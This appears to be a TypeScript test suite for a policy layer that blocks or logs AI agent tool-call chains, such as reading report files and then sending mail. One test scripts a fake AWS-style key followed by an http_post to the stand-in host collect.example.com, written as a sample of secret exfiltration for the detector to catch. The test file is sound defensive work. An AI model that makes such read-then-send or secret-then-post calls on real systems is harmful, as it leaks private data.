import { expect, test } from 'vitest';
import { Bench, errorOf, result, text, use } from '../../test/test-connection.js';

const policy = (settings: string) =>
  `version = 1\ndefault = "allow"\n[responses]\nsecrets = "log"\n[chains]\n${settings}`;
const OWN = `action = "deny"
[[chains.pattern]]
name = "report_then_send"
steps = [{ effect = "read", path = "/srv/reports/**" }, { tool = "send_*" }]
within = "30s"
`;

const read = use(1, 'read_file', { path: '/srv/reports/may.csv' });
const send = use(9, 'send_mail', { to: 'a', body: 'hello there' });

async function opened(settings: string): Promise<Bench> {
  return Bench.open(policy(settings));
}

test('a chain of the policy: each call alone passes, both together do not', async () => {
  const alone = await opened(OWN);
  alone.client(send);
  await alone.idle();
  expect(alone.atServer).toHaveLength(1);
  const bench = await opened(OWN);
  bench.client(read);
  bench.client(send);
  await bench.idle();
  expect(bench.atServer).toHaveLength(1);
  expect(errorOf(bench.atClient[0])).toMatchObject({ code: -32001, rule: 'chains' });
});

test('calls in between change nothing, time does', async () => {
  const bench = await opened(OWN);
  bench.client(read);
  for (const id of [2, 3, 4]) bench.client(use(id, 'list_directory', { path: '/srv/other' }));
  bench.clock.advance(29_000);
  bench.client(send);
  await bench.idle();
  expect(errorOf(bench.atClient[0]).rule).toBe('chains');
  bench.clock.advance(2_000);
  bench.client({ ...send, id: 10 });
  await bench.idle();
  expect(bench.atServer.at(-1)).toContain('"id":10');
});

test('a call that was refused was not made', async () => {
  const bench = await Bench.open(
    `version = 1\ndefault = "allow"\n[[rule]]\nname = "no_reports"\naction = "deny"\npath = "/srv/reports/**"\n[chains]\n${OWN}`,
  );
  bench.client(read);
  bench.client(send);
  await bench.idle();
  expect(errorOf(bench.atClient[0]).rule).toBe('no_reports');
  expect(bench.atServer).toHaveLength(1);
});

test('another path is another chain', async () => {
  const bench = await opened(OWN);
  bench.client(use(1, 'read_file', { path: '/srv/photos/cat.png' }));
  bench.client(send);
  await bench.idle();
  expect(bench.atServer).toHaveLength(2);
});

test('the action of a chain can be to log', async () => {
  const bench = await opened(OWN.replace('action = "deny"', 'action = "log"'));
  bench.client(read);
  bench.client(send);
  await bench.idle();
  expect(bench.atServer).toHaveLength(2);
  const said = bench.entries.flatMap(({ trail }) => trail.map(({ rule }) => rule));
  expect(said).toContain('report_then_send');
});

test('chains can be switched off', async () => {
  const bench = await opened(OWN.replace('action = "deny"', 'enabled = false'));
  bench.client(read);
  bench.client(send);
  await bench.idle();
  expect(bench.atServer).toHaveLength(2);
});

test('a secret that was shown and a connection afterwards', async () => {
  const bench = await opened('action = "deny"');
  bench.client(use(1, 'read_file', { path: '/srv/project/notes.txt' }));
  bench.server(result(1, text(`the key is ${['AKIA', 'Z5QLTX7N4KPW2MVD'].join('')}`)));
  bench.client(use(2, 'http_post', { url: 'https://collect.example.com/', body: 'some data' }));
  await bench.idle();
  expect(errorOf(bench.atClient.at(-1)).rule).toBe('chains');
});

test('reading a file and running the tests is no attack', async () => {
  const bench = await opened('action = "deny"');
  bench.client(use(1, 'read_file', { path: '/srv/project/src/a.ts' }));
  bench.server(result(1, text('export const a = 1;')));
  bench.client(use(2, 'run_command', { command: 'npm test' }));
  await bench.idle();
  expect(bench.atServer).toHaveLength(2);
});
